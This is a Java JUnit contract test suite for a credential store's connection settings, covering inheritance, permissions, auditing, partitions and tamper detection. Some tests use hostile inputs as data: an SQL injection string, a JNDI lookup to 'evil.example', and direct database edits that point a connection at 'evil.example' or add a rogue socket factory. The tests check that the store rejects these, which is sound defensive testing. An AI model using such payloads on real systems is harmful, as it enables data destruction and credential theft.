package org.securestore;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.sql.SQLException;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.securestore.application.ConnectionSettings;
import org.securestore.application.ConnectionSettingsName;
import org.securestore.application.ResolvedConnection;
import org.securestore.application.TargetApplication;
import org.securestore.application.TargetApplicationId;
import org.securestore.application.VersionedConnectionSettings;
import org.securestore.audit.AuditAction;
import org.securestore.audit.AuditEvent;
import org.securestore.audit.AuditFilter;
import org.securestore.audit.AuditOutcome;
import org.securestore.audit.AuditQuery;
import org.securestore.database.Contract;
import org.securestore.failure.AccessDeniedException;
import org.securestore.failure.ConflictException;
import org.securestore.failure.ConnectionSettingsExistException;
import org.securestore.failure.ConnectionSettingsInUseException;
import org.securestore.failure.DefinitionRejectedException;
import org.securestore.failure.NoSuchApplicationException;
import org.securestore.failure.NoSuchConnectionSettingsException;
import org.securestore.failure.NotAuthorizedException;
import org.securestore.failure.TamperedRecordException;
import org.securestore.identity.AdministrativeRight;
import org.securestore.identity.Caller;
import org.securestore.identity.Claim;
import org.securestore.identity.RightGrant;
import org.securestore.partition.PartitionId;

/** The URL and the driver's options of a connection live in the store, beside the credentials. */
@Contract
@Tag(Contract.ABOVE_THE_DATABASE)
class ConnectionSettingsContract {
    private static final TargetApplicationId REPORTING = new TargetApplicationId("Reporting");
    private static final TargetApplicationId GATEWAY = new TargetApplicationId("Gateway");
    private static final ConnectionSettingsName SALES = new ConnectionSettingsName("Sales");
    private static final ConnectionSettingsName POSTGRES = new ConnectionSettingsName("All PostgreSQL");
    private static final String URL = "jdbc:postgresql://db.example/sales";

    private final StoreFixture.Place place;
    private StoreFixture fixture;
    private ConnectionSettingsAdministration connections;

    ConnectionSettingsContract(StoreFixture.Place place) {
        this.place = place;
    }

    @BeforeEach
    void open() {
        fixture = StoreFixture.create(place)
                .auditingReads()
                .groupApplication("Reporting", "sales")
                .groupApplication("Gateway", "sales");
        connections = fixture.administrator().connectionSettings();
    }

    @AfterEach
    void close() {
        fixture.close();
    }

    @Nested
    class OfAnApplication {
        @BeforeEach
        void define() {
            connections.create(ConnectionSettings.named(POSTGRES).withOption("sslmode", "require"));
            connections.create(sales().withParent(POSTGRES));
            connections.create(ConnectionSettings.named(new ConnectionSettingsName("Reports"))
                    .withParent(SALES));
            connections.create(
                    ConnectionSettings.named(new ConnectionSettingsName("Gate")).withApplication(GATEWAY));
        }

        @Test
        void areThoseThatNameItOrInheritThat() {
            assertThat(fixture.as("carol", "sales").connections(REPORTING))
                    .allSatisfy(connection -> {
                        assertThat(connection.url()).contains(URL);
                        assertThat(connection.options()).containsEntry("sslmode", "require");
                    })
                    .extracting(connection -> connection.name().value())
                    .containsExactly("Reports", "Sales");
        }

        @Test
        void areForWhoeverEntersItsCredentialsAndIsNoMember() {
            assertThat(fixture.administrator().connections(REPORTING)).hasSize(2);
        }

        @Test
        void areForNobodyElse() {
            assertThatExceptionOfType(AccessDeniedException.class)
                    .isThrownBy(() -> fixture.as("mallory").connections(REPORTING));
            assertThatExceptionOfType(NoSuchApplicationException.class)
                    .isThrownBy(() -> fixture.administrator().connections(new TargetApplicationId("Nowhere")));
        }
    }

    @Nested
    class ByWhoeverAdministersAll {
        @Test
        void areKeptAsTheyWereGiven() {
            ConnectionSettings sales = sales().withDisplayName("Sales, für alle")
                    .withOption("ApplicationName", "reports")
                    .withOption("sslmode", "verify-full")
                    .withProxyApplication(GATEWAY);
            connections.create(sales);

            assertThat(connections.get(new ConnectionSettingsName("SALES")).settings())
                    .isEqualTo(sales);
        }

        @Test
        void areListedByName() {
            connections.create(ConnectionSettings.named(POSTGRES));
            connections.create(sales().withParent(POSTGRES));

            assertThat(connections.list())
                    .extracting(found -> found.settings().name())
                    .containsExactly(POSTGRES, SALES);
            assertThat(connections.children(POSTGRES))
                    .extracting(found -> found.settings().name())
                    .containsExactly(SALES);
            assertThat(connections.children(SALES)).isEmpty();
        }

        @Test
        void changeAndForgetTheOptionsBefore() {
            VersionedConnectionSettings first = connections.create(sales().withOption("sslmode", "require"));

            VersionedConnectionSettings second =
                    connections.update(first.settings().withOptions(Map.of("loginTimeout", "5")), first.version());

            assertThat(second.version()).isGreaterThan(first.version());
            assertThat(connections.get(SALES).settings().options()).isEqualTo(Map.of("loginTimeout", "5"));
        }

        @Test
        void loseNobodysChange() {
            VersionedConnectionSettings seen = connections.create(sales());
            connections.update(seen.settings().withUrl("jdbc:postgresql://other.example/sales"), seen.version());

            assertThatExceptionOfType(ConflictException.class)
                    .isThrownBy(() -> connections.update(seen.settings().withDisplayName("Mine"), seen.version()));
            assertThat(connections.get(SALES).settings().url()).contains("jdbc:postgresql://other.example/sales");
        }

        @Test
        void areGoneWhenTheyAreDeleted() {
            connections.create(sales().withOption("sslmode", "require"));

            connections.delete(SALES);

            assertThatExceptionOfType(NoSuchConnectionSettingsException.class).isThrownBy(() -> connections.get(SALES));
            assertThatExceptionOfType(NoSuchConnectionSettingsException.class)
                    .isThrownBy(() -> connections.delete(SALES));
            assertThatExceptionOfType(NoSuchConnectionSettingsException.class)
                    .isThrownBy(() -> connections.update(sales(), 1));
            assertThatExceptionOfType(NoSuchConnectionSettingsException.class)
                    .isThrownBy(() -> connections.children(SALES));
        }

        @Test
        void haveANameOfTheirOwnRegardlessOfCase() {
            connections.create(sales());

            assertThatExceptionOfType(ConnectionSettingsExistException.class)
                    .isThrownBy(
                            () -> connections.create(ConnectionSettings.named(new ConnectionSettingsName("sALES"))));
        }

        @Test
        void nameOnlyApplicationsThatThereAre() {
            TargetApplicationId nowhere = new TargetApplicationId("Nowhere");

            assertThatExceptionOfType(NoSuchApplicationException.class)
                    .isThrownBy(() -> connections.create(sales().withApplication(nowhere)));
            assertThatExceptionOfType(NoSuchApplicationException.class)
                    .isThrownBy(() -> connections.create(sales().withProxyApplication(nowhere)));
            assertThat(connections.list()).isEmpty();
        }

        @Test
        void areAudited() {
            connections.create(sales());

            AuditEvent event = newest(AuditAction.CREATE_CONNECTION);
            assertThat(event.caller()).isEqualTo(StoreFixture.ADMINISTRATOR.name());
            assertThat(event.reason()).contains("Sales");
        }

        @Test
        void areTakenForWhatTheyAre() {
            ConnectionSettings odd = sales().withOption("'; drop table store; --", "%s${jndi:ldap://evil.example}");
            connections.create(odd);

            assertThat(connections.get(SALES).settings()).isEqualTo(odd);
        }

        @Test
        void neverCrossFromOnePartitionIntoAnother() throws SQLException {
            connections.create(sales());
            execute("update connection_option set partition_id = 'other'");
            execute("update connection_settings set partition_id = 'other'");

            assertThat(connections.list()).isEmpty();
        }

        @Test
        void goWithTheirPartition() throws SQLException {
            PartitionId tenant = new PartitionId("tenant");
            fixture.administrator().partitions().create(tenant, Claim.user("dave"));
            connections.create(sales().withOption("sslmode", "require"));
            execute("update connection_option set partition_id = 'tenant'");
            execute("update connection_settings set partition_id = 'tenant'");

            fixture.administrator().partitions().delete(tenant);

            execute("update connection_settings set partition_id = 'default'");
            assertThat(connections.list()).isEmpty();
            connections.create(sales());
        }
    }

    @Nested
    class ByAnybodyElse {
        @Test
        void areNeitherSeenNorChanged() {
            connections.create(sales());
            ConnectionSettingsAdministration others =
                    fixture.as("carol", "sales").connectionSettings();

            assertThatExceptionOfType(NotAuthorizedException.class).isThrownBy(others::list);
            assertThatExceptionOfType(NotAuthorizedException.class).isThrownBy(() -> others.get(SALES));
            assertThatExceptionOfType(NotAuthorizedException.class).isThrownBy(() -> others.children(SALES));
            assertThatExceptionOfType(NotAuthorizedException.class).isThrownBy(() -> others.create(sales()));
            assertThatExceptionOfType(NotAuthorizedException.class).isThrownBy(() -> others.update(sales(), 1));
            assertThatExceptionOfType(NotAuthorizedException.class).isThrownBy(() -> others.delete(SALES));
        }

        @ParameterizedTest
        @CsvSource({
            "MANAGE_TARGET_APPLICATION, ALL_TARGET_APPLICATIONS, true",
            "FULL_CONTROL, FULL_CONTROL, true",
            "MANAGE_TARGET_APPLICATION, MANAGE_TARGET_APPLICATION, false",
            "ALL_TARGET_APPLICATIONS, DELETE_TARGET_APPLICATION, false",
        })
        void needTheRightsOverAllApplications(AdministrativeRight one, AdministrativeRight two, boolean enough) {
            fixture.administrator().rights().grant(new RightGrant(Claim.user("dave"), one));
            fixture.administrator().rights().grant(new RightGrant(Claim.user("dave"), two));

            if (enough) {
                fixture.as("dave").connectionSettings().create(sales());
            } else {
                assertThatExceptionOfType(NotAuthorizedException.class)
                        .isThrownBy(
                                () -> fixture.as("dave").connectionSettings().create(sales()));
            }
            assertThat(connections.list()).hasSize(enough ? 1 : 0);
        }
    }

    @Nested
    class ThatInherit {
        @Test
        void sayOnlyWhatIsDifferent() {
            connections.create(ConnectionSettings.named(POSTGRES)
                    .withDisplayName("PostgreSQL")
                    .withUrl("jdbc:postgresql://db.example/postgres")
                    .withOptions(Map.of("sslmode", "verify-full", "connectTimeout", "5"))
                    .withApplication(GATEWAY)
                    .withProxyApplication(GATEWAY));
            connections.create(ConnectionSettings.named(SALES)
                    .withParent(POSTGRES)
                    .withUrl(URL)
                    .withOption("connectTimeout", "9")
                    .withApplication(REPORTING));

            ResolvedConnection connection = fixture.as("carol", "sales").connection(SALES);

            assertThat(connection)
                    .isEqualTo(new ResolvedConnection(
                            SALES,
                            "Sales",
                            Optional.of(URL),
                            new TreeMap<>(Map.of("sslmode", "verify-full", "connectTimeout", "9")),
                            REPORTING,
                            Optional.of(GATEWAY)));
        }

        @Test
        void followTheirParentWhenItChanges() {
            VersionedConnectionSettings parent = connections.create(
                    ConnectionSettings.named(POSTGRES).withUrl("jdbc:postgresql://old.example/sales"));
            connections.create(
                    ConnectionSettings.named(SALES).withParent(POSTGRES).withApplication(REPORTING));

            connections.update(parent.settings().withUrl(URL), parent.version());

            assertThat(fixture.as("carol", "sales").connection(SALES).url()).contains(URL);
        }

        @Test
        void neverFromThemselves() {
            VersionedConnectionSettings first = connections.create(ConnectionSettings.named(name(1)));
            connections.create(ConnectionSettings.named(name(2)).withParent(name(1)));
            connections.create(ConnectionSettings.named(name(3)).withParent(name(2)));

            for (int own = 1; own <= 3; own++) {
                ConnectionSettings circle = first.settings().withParent(name(own));
                assertThatExceptionOfType(DefinitionRejectedException.class)
                        .isThrownBy(() -> connections.update(circle, first.version()))
                        .withMessageContaining("inherit from itself");
            }
            assertThatExceptionOfType(DefinitionRejectedException.class)
                    .isThrownBy(() -> connections.create(sales().withParent(SALES)));
        }

        @Test
        void atMostEightInARow() {
            createRow(8);

            assertThatExceptionOfType(DefinitionRejectedException.class)
                    .isThrownBy(() ->
                            connections.create(ConnectionSettings.named(name(9)).withParent(name(8))))
                    .withMessageContaining("at most 8");
            assertThat(fixture.as("carol", "sales").connection(name(8)).url()).contains(URL);
        }

        @Test
        void atMostEightInARowCountingTheirOwnChildren() {
            createRow(5);
            VersionedConnectionSettings moved = connections.create(ConnectionSettings.named(name(11)));
            for (int i = 12; i <= 14; i++) {
                connections.create(ConnectionSettings.named(name(i)).withParent(name(i - 1)));
            }

            assertThatExceptionOfType(DefinitionRejectedException.class)
                    .isThrownBy(() -> connections.update(moved.settings().withParent(name(5)), moved.version()));
            connections.update(moved.settings().withParent(name(4)), moved.version());

            assertThat(fixture.as("carol", "sales").connection(name(14)).url()).contains(URL);
        }

        @Test
        void keepTheirParentFromBeingDeleted() {
            connections.create(ConnectionSettings.named(POSTGRES));
            connections.create(sales().withParent(POSTGRES));

            assertThatExceptionOfType(ConnectionSettingsInUseException.class)
                    .isThrownBy(() -> connections.delete(POSTGRES))
                    .withMessageContaining("such as Sales");

            connections.delete(SALES);
            connections.delete(POSTGRES);
            assertThat(connections.list()).isEmpty();
        }

        @Test
        void onlyFromAParentThatThereIs() {
            assertThatExceptionOfType(NoSuchConnectionSettingsException.class)
                    .isThrownBy(() -> connections.create(sales().withParent(POSTGRES)))
                    .withMessageContaining("All PostgreSQL");
        }

        private void createRow(int length) {
            connections.create(ConnectionSettings.named(name(1)).withUrl(URL).withApplication(REPORTING));
            for (int i = 2; i <= length; i++) {
                connections.create(ConnectionSettings.named(name(i)).withParent(name(i - 1)));
            }
        }
    }

    @Nested
    class ToConnectWith {
        @Test
        void areForTheMembersOfTheirApplication() {
            connections.create(sales());

            assertThat(fixture.as("carol", "sales").connection(SALES).application())
                    .isEqualTo(REPORTING);
            assertThatExceptionOfType(AccessDeniedException.class)
                    .isThrownBy(() -> fixture.as("mallory", "marketing").connection(SALES))
                    .withMessageStartingWith("You may not use Sales;");
            assertThat(fixture.administrator().audit().events(AuditQuery.newest(10)))
                    .filteredOn(event -> event.caller().equals("mallory"))
                    .singleElement()
                    .satisfies(event -> assertThat(event.reason()).contains("Sales: holds no member's claim"));
        }

        @Test
        void areForNobodyWithoutAnApplication() {
            connections.create(ConnectionSettings.named(POSTGRES).withUrl(URL));

            assertThatExceptionOfType(AccessDeniedException.class)
                    .isThrownBy(() -> fixture.administrator().connection(POSTGRES));
            assertThat(newest(AuditAction.USE_CONNECTION).reason())
                    .contains("All PostgreSQL: it names no target application, and inherits none");
        }

        @Test
        void areMissedByName() {
            assertThatExceptionOfType(NoSuchConnectionSettingsException.class)
                    .isThrownBy(() -> fixture.as("carol", "sales").connection(SALES));
            assertThat(newest(AuditAction.USE_CONNECTION).outcome()).isEqualTo(AuditOutcome.FAILURE);
        }

        @Test
        void areOfNoUseWhenTheirApplicationIsGone() {
            connections.create(sales());
            fixture.administrator().applications().delete(REPORTING);

            assertThatExceptionOfType(NoSuchApplicationException.class)
                    .isThrownBy(() -> fixture.as("carol", "sales").connection(SALES));
        }

        @Test
        void areForACallerWhoCountsAsTheSystem() {
            fixture.administrator()
                    .rights()
                    .grant(new RightGrant(Claim.user("scheduler"), AdministrativeRight.SYSTEM_ACCOUNT));
            fixture.administrator()
                    .applications()
                    .create(TargetApplication.group(new TargetApplicationId("Nightly"), Claim.SYSTEM));
            connections.create(sales().withApplication(new TargetApplicationId("Nightly")));

            assertThat(fixture.as("scheduler").connection(SALES).url()).contains(URL);
        }

        @Test
        void areAuditedOnceWhileTheUseIsRecent() {
            connections.create(sales());
            SecureStoreSession frequent = fixture.as("frequent", "sales");

            for (int i = 0; i < 100; i++) {
                frequent.connection(SALES);
            }

            assertThat(fixture.administrator().audit().events(AuditQuery.newest(200)))
                    .filteredOn(event -> event.caller().equals("frequent"))
                    .singleElement()
                    .satisfies(event -> assertThat(event.reason()).contains("Sales, member as group:sales"));
        }

        @Test
        void keepNobodyWaitingWhileACallersClaimsAreLookedUp() {
            connections.create(sales());
            SecureStoreSession lookedUp = fixture.store().as(new Caller() {
                @Override
                public String name() {
                    return "looked up";
                }

                @Override
                public boolean holds(Claim claim) {
                    CompletableFuture<?> another = CompletableFuture.runAsync(() -> fixture.administrator()
                            .audit()
                            .events(AuditQuery.newest(1))); // which writes to the audit log itself
                    another.orTimeout(5, TimeUnit.SECONDS).join();
                    return claim.equals(Claim.group("sales"));
                }
            });

            assertThat(lookedUp.connection(SALES).url()).contains(URL);
        }
    }

    @Nested
    class InTheHandsOfWhoeverCanWriteToTheDatabase {
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "update connection_settings set url = 'jdbc:postgresql://evil.example/sales'",
                    "update connection_settings set url = 'nonsense'",
                    "update connection_settings set application = 'Gateway'",
                    "update connection_settings set proxy_application = 'Gateway'",
                    "update connection_settings set display_name = 'Else'",
                    "update connection_settings set parent = 'Sales'",
                    "update connection_settings set name = 'SALES'",
                    "update connection_settings set version = version + 1",
                    "update connection_settings set code = ?",
                    "update connection_option set option_value = 'disable'",
                    "update connection_option set name = 'sslMode'",
                    "delete from connection_option",
                    "insert into connection_option select partition_id, settings, position + 1, 'socketFactory', 'Evil' from"
                            + " connection_option",
                })
        void sendNobodysPasswordElsewhere(String change) throws SQLException {
            connections.create(sales().withOption("sslmode", "verify-full"));
            execute(change);

            assertThatExceptionOfType(TamperedRecordException.class)
                    .isThrownBy(() -> fixture.as("carol", "sales").connection(SALES));
            assertThatExceptionOfType(TamperedRecordException.class).isThrownBy(() -> connections.get(SALES));
            assertThat(connections.list()).isEmpty();
        }

        @Test
        void standUnderNoOthersName() throws SQLException {
            connections.create(sales());
            connections.create(ConnectionSettings.named(POSTGRES)
                    .withUrl("jdbc:postgresql://test.example/sales")
                    .withApplication(REPORTING));
            execute("delete from connection_settings where name_key = 'sales'");
            execute("update connection_settings set name_key = 'sales' where name_key = 'all postgresql'");

            assertThatExceptionOfType(TamperedRecordException.class)
                    .isThrownBy(() -> fixture.as("carol", "sales").connection(SALES));
        }

        @Test
        void endWhereOldRecordsWerePutBackInACircle() throws SQLException {
            VersionedConnectionSettings first =
                    connections.create(ConnectionSettings.named(name(1)).withApplication(REPORTING));
            VersionedConnectionSettings second =
                    connections.create(ConnectionSettings.named(name(2)).withParent(name(1)));
            execute("create table old as select * from connection_settings where name_key = 'settings 2'");
            connections.update(second.settings().withoutParent(), second.version());
            connections.update(first.settings().withParent(name(2)), first.version());
            execute("delete from connection_settings where name_key = 'settings 2'");
            execute("insert into connection_settings select * from old");

            assertThatExceptionOfType(TamperedRecordException.class)
                    .isThrownBy(() -> fixture.as("carol", "sales").connection(name(1)));
            StoreConfiguration again = fixture.configuration().withCacheSize(3); // a store that has seen nothing newer
            try (SecureStore since = SecureStore.open(again)) {
                assertThatExceptionOfType(TamperedRecordException.class)
                        .isThrownBy(() -> since.as(Caller.of("carol", "sales")).connection(name(1)));
                assertThatExceptionOfType(DefinitionRejectedException.class)
                        .isThrownBy(() -> since.as(StoreFixture.ADMINISTRATOR)
                                .connectionSettings()
                                .create(ConnectionSettings.named(name(3)).withParent(name(1))));
            }
        }
    }

    private static ConnectionSettings sales() {
        return ConnectionSettings.named(SALES).withUrl(URL).withApplication(REPORTING);
    }

    private static ConnectionSettingsName name(int number) {
        return new ConnectionSettingsName("Settings " + number);
    }

    private AuditEvent newest(AuditAction action) {
        return fixture.administrator()
                .audit()
                .events(AuditQuery.newest(1).matching(AuditFilter.ALL.of(action)))
                .get(0);
    }

    private void execute(String change) throws SQLException {
        new StoreTables(fixture.configuration()).change(change);
    }
}
